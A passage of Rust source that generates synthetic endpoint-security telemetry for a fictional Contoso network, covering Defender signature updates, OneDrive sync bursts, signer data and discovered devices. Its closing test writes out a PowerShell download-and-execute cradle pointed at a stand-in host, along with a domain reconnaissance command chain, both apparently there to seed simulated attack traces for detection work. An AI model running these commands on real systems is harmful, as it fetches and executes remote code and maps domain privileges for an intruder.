    s.l(c.LogonId, p.logon_id);
    initiating(s, w, parent);
    s.end();
}

#[allow(clippy::too_many_arguments)]
fn write_file(
    g: &mut Gen,
    s: &mut Sink,
    ctx: &Ctx,
    dev: &Device,
    t: i64,
    seq: &mut u64,
    p: &Proc,
    path: &str,
    size: i64,
    file_type: &str,
) {
    let w = g.w;
    let c = s.c;
    head(s, dev, t, report_id(ctx.day, ctx.dev, *seq));
    *seq += 1;
    s.s(c.ActionType, "FileCreated");
    let name = path.rsplit('\\').next().unwrap_or(path);
    s.s(c.FileName, name);
    s.s(c.FolderPath, path);
    g.write_hashes(s, name, true);
    s.l(c.FileSize, size);
    s.f(
        c.AdditionalFields,
        format_args!("{{\"FileType\":\"{file_type}\"}}"),
    );
    initiating(s, w, p);
    s.end();
}

/// Defender's definition update: Windows Update runs `MpSigStub.exe`, which writes the delta
/// definitions (every device once a day but the laptop that stopped updating). The version
/// is the one published at the time (as in the antivirus inventory).
fn signature_update(
    g: &mut Gen,
    s: &mut Sink,
    ctx: &Ctx,
    dev: &Device,
    table: DevTable,
    seq: &mut u64,
) {
    let w = g.w;
    if stale(w, ctx.dev) {
        return;
    }
    let mut r = Rng::derive(&[w.seed, fnv("mpsigstub"), ctx.dev as u64, ctx.day as u64]);
    let t = (ctx.day * DAY + r.range(HOUR, 22 * HOUR)) / 1_000 * 1_000;
    let Some(wu) = ctx.alive(P::SvcNetsvcs, t) else {
        return;
    };
    let n = (t - w.start).div_euclid(8 * HOUR);
    let version = format!("1.421.{}.0", 1500 + n);
    let cmd = format!(
        "MpSigStub.exe /stub 1.1.24090.11 /payload {version} /program C:\\Windows\\SoftwareDistribution\\Download\\Install\\AM_Delta_Patch_{version}.exe"
    );
    let stub = spawn(&mut r, Img::MpSigStub, cmd, t, wu);
    let dir = r.guid().to_ascii_uppercase();
    let t1 = t + r.range(SEC, 3 * SEC);
    let t2 = t1 + r.range(200_000_000, SEC);
    if !ctx.in_window(t) || !ctx.in_window(t2) {
        return;
    }
    match table {
        DevTable::Process => write_proc(s, w, ctx, dev, seq, wu, &stub),
        DevTable::File => {
            let mut path = String::new();
            for (k, (name, size)) in [("mpasdlta.vdm", 912_384), ("mpavdlta.vdm", 1_458_176)]
                .into_iter()
                .enumerate()
            {
                path.clear();
                let _ = write!(
                    path,
                    "C:\\ProgramData\\Microsoft\\Windows Defender\\Definition Updates\\{{{dir}}}\\{name}"
                );
                let tk = if k == 0 { t1 } else { t2 };
                write_file(g, s, ctx, dev, tk, seq, &stub, &path, size, "Unknown");
            }
        }
        _ => {}
    }
}

/// The workstation that syncs its department's document library with OneDrive, and when:
/// the first weekday after the window's first day its user works.
fn sync_plan(w: &World) -> Option<(usize, i64)> {
    let dev = w.workstations.get(3).copied()?;
    let first = w.start.div_euclid(DAY) + 1;
    let last = (w.now - 1).div_euclid(DAY);
    (first..=last).find_map(|day| {
        let (s0, s1) = w.session(dev, day)?;
        let t = s0 + 40 * MIN;
        (weekday(day) < 5 && t + 10 * MIN < s1.min(w.now)).then_some((dev, t))
    })
}

/// A new OneDrive sync of the department's SharePoint library: ~130 documents land within
/// a few minutes.
fn onedrive_sync(g: &mut Gen, s: &mut Sink, ctx: &Ctx, dev: &Device, seq: &mut u64) {
    let w = g.w;
    let Some((sync_dev, t0)) = sync_plan(w) else {
        return;
    };
    if sync_dev != ctx.dev || t0.div_euclid(DAY) != ctx.day {
        return;
    }
    let Some(od) = ctx.alive(P::OneDrive, t0).cloned() else {
        return;
    };
    let Some(u) = ctx.user(w) else { return };
    let share = crate::catalog::DEPTS
        .get(u.dept)
        .map_or("Public", |d| d.share);
    // Start just after a 5-minute boundary so the burst stays in one bin.
    let t0 = (t0 / (5 * MIN)) * 5 * MIN + 20 * SEC;
    let mut r = Rng::derive(&[w.seed, fnv("onedrive-sync"), ctx.dev as u64]);
    let mut path = String::new();
    let mut seen = std::collections::BTreeSet::new();
    let mut t = t0;
    for _ in 0..135 {
        t += r.range(300_000_000, 1_500_000_000);
        let topic = r.pick_str(DOC_TOPICS);
        let period = r.pick_str(DOC_PERIODS);
        let (ext, ft) = *r
            .pick(&[
                ("docx", "Docx"),
                ("xlsx", "Xlsx"),
                ("pptx", "Pptx"),
                ("pdf", "Pdf"),
            ])
            .unwrap_or(&("docx", "Docx"));
        let folder = r.pick_str(&["Projects", "Templates", "Reports", "Archive", "Policies"]);
        path.clear();
        let _ = write!(
            path,
            "C:\\Users\\{}\\Contoso\\{share} - Documents\\{folder}\\{topic} {period}.{ext}",
            u.sam
        );
        if !seen.insert(path.clone()) || !ctx.in_window(t) {
            continue;
        }
        let size = r.range(24_000, 4_800_000);
        write_file(g, s, ctx, dev, t, seq, &od, &path, size, ft);
    }
}

// ---- DeviceFileCertificateInfo hooks -----------------------------------------------------

const DIGICERT: &str = "DigiCert Trusted G4 Code Signing RSA4096 SHA384 2021 CA1";

/// Whether `d` has one of this module's images on disk (`None`: not one of them).
pub(crate) fn has_image(w: &World, d: &Device, img: Img) -> Option<bool> {
    let ws = !d.is_server();
    let dept = d.dept;
    let it = dept == crate::catalog::DEPT_IT;
    Some(match img {
        Img::GoToMeeting | Img::ExpressScribe => ws,
        Img::TightVnc | Img::Procdump32 => ws && it,
        Img::DevTunnel | Img::FieldSync => ws && dept == 4,
        Img::Defendpoint => d.is_server(),
        Img::AdapAgent => d.role == Role::Dc,
        Img::Wkhtmltopdf => matches!(d.role, Role::Web | Role::App),
        Img::Runas | Img::Fsutil | Img::MpSigStub => true,
        _ => {
            let _ = w;
            return None;
        }
    })
}

/// (signer, issuer, root is Microsoft) of this module's images.
pub(crate) fn signer(img: Img) -> Option<(&'static str, &'static str, bool)> {
    Some(match img {
        Img::GoToMeeting => ("LogMeIn, Inc.", DIGICERT, false),
        Img::TightVnc => ("GlavSoft LLC.", "Sectigo Public Code Signing CA R36", false),
        Img::Defendpoint => ("BeyondTrust Corporation", DIGICERT, false),
        Img::AdapAgent => ("Zoho Corporation Private Limited", DIGICERT, false),
        Img::ExpressScribe => ("NCH Software", "Sectigo Public Code Signing CA R36", false),
        // Signed on the developer's machine with a self-signed test certificate.
        Img::FieldSync => ("Contoso Dev Test", "Contoso Dev Test", false),
        _ => return None,
    })
}

/// Whether an image's signature chains to a trusted root.
pub(crate) fn trusted(img: Img) -> bool {
    img != Img::FieldSync
}

// ---- DeviceInfo --------------------------------------------------------------------------

/// The sensor version a device reports: the laptop that stopped updating runs a release
/// from last spring.
pub(crate) fn client_version(w: &World, dev: usize) -> &'static str {
    if stale(w, dev) {
        "10.8295.22631.4317"
    } else {
        "10.8760.22621.1105"
    }
}

/// Devices found by device discovery besides `extra.rs`'s: the branch office's router and
/// the reception desk's shared PC (never onboarded).
pub(crate) fn discovered(w: &World, day: i64, lo: i64, hi: i64, info: &mut Sink) {
    /// (name, category, type, subtype, vendor, model, OS platform, OS distribution,
    /// onboarding status).
    type Seen = (
        &'static str,
        &'static str,
        &'static str,
        &'static str,
        &'static str,
    );
    type Os = (&'static str, &'static str, &'static str, &'static str);
    const SEEN: &[(Seen, Os)] = &[
        (
            (
                "rtr-branch-01",
                "NetworkDevice",
                "NetworkDevice",
                "Router",
                "Cisco",
            ),
            ("ISR 1111-8P", "IOS", "IOS XE", "Unsupported"),
        ),
        (
            ("reception-pc", "Endpoint", "Workstation", "", "HP"),
            ("ProDesk 400 G7", "Windows10", "Windows", "Can be onboarded"),
        ),
    ];
    let c = info.c;
    for (k, &((name, category, dtype, subtype, vendor), (model, os, dist, status))) in
        SEEN.iter().enumerate()
    {
        let id = Rng::derive(&[w.seed, fnv("discovered2"), k as u64]).hex(40);
        let mut r = Rng::derive(&[w.seed, fnv("discovered2-day"), k as u64, day as u64]);
        for half in 0..2 {
            let t = (day * DAY + half * 12 * HOUR + r.range(0, 11 * HOUR)) / SEC * SEC;
            if t < lo || t >= hi {
                continue;
            }
            info.t(c.Timestamp, t);
            info.s(c.DeviceId, &id);
            info.f(c.DeviceName, format_args!("{name}.contoso.com"));
            info.so(c.OSPlatform, os);
            info.so(c.OSDistribution, dist);
            info.s(c.OnboardingStatus, status);
            info.s(c.DeviceCategory, category);
            info.s(c.DeviceType, dtype);
            info.so(c.DeviceSubtype, subtype);
            info.s(c.Vendor, vendor);
            info.s(c.Model, model);
            info.s(c.SensorHealthState, "");
            info.b(c.IsExcluded, false);
            info.s(
                c.ExposureLevel,
                if category == "Endpoint" {
                    "Medium"
                } else {
                    "Low"
                },
            );
            info.s(c.AssetValue, "Normal");
            info.s(c.DeviceManualTags, "[]");
            info.s(c.DeviceDynamicTags, "[]");
            info.b(c.IsInternetFacing, false);
            info.l(c.ReportId, report_id(day, 0xfe00 + k, half as u64));
            info.f(
                c.AdditionalFields,
                format_args!(
                    "{{\"DiscoverySources\":[\"NetworkScan\",\"PassiveNetwork\"],\"IPAddress\":\"10.{}.0.{}\"}}",
                    if k == 0 { 250 } else { 20 },
                    if k == 0 { 1 } else { 90 }
                ),
            );
            info.end();
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::activity::Side;
    use crate::rng::powershell_encoded;

    #[test]
    fn encoded_commands_decode_to_their_scripts() {
        assert_eq!(
            powershell_encoded(
                "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.80/payloads/Invoke-AtomicRecon.ps1')"
            ),
            ENC_CRADLE
        );
        assert_eq!(
            powershell_encoded(
                "whoami /all; net user /domain; net group 'Domain Admins' /domain; systeminfo; arp -a"
            ),
            ENC_RECON
        );
        let cmds: Vec<&str> = RECIPES
            .iter()
            .flat_map(|r| r.steps.iter().map(|s| s.cmd))
            .collect();
        assert!(cmds.iter().any(|c| c.ends_with(ENC_CRADLE)));
        assert!(cmds.iter().any(|c| c.ends_with(ENC_RECON)));
    }

    #[test]
    fn side_rows_refer_to_existing_steps() {
        for (i, r) in RECIPES.iter().enumerate() {
            for (k, st) in r.steps.iter().enumerate() {
                assert!(usize::from(st.up) <= k, "recipe {i} step {k}");
            }
            for sd in r.side {
                let by = match sd {
                    Side::File { by, .. } | Side::Reg { by, .. } | Side::Load { by, .. } => *by,
                };
                assert!(usize::from(by) <= r.steps.len(), "recipe {i}");
            }
        }
    }
}
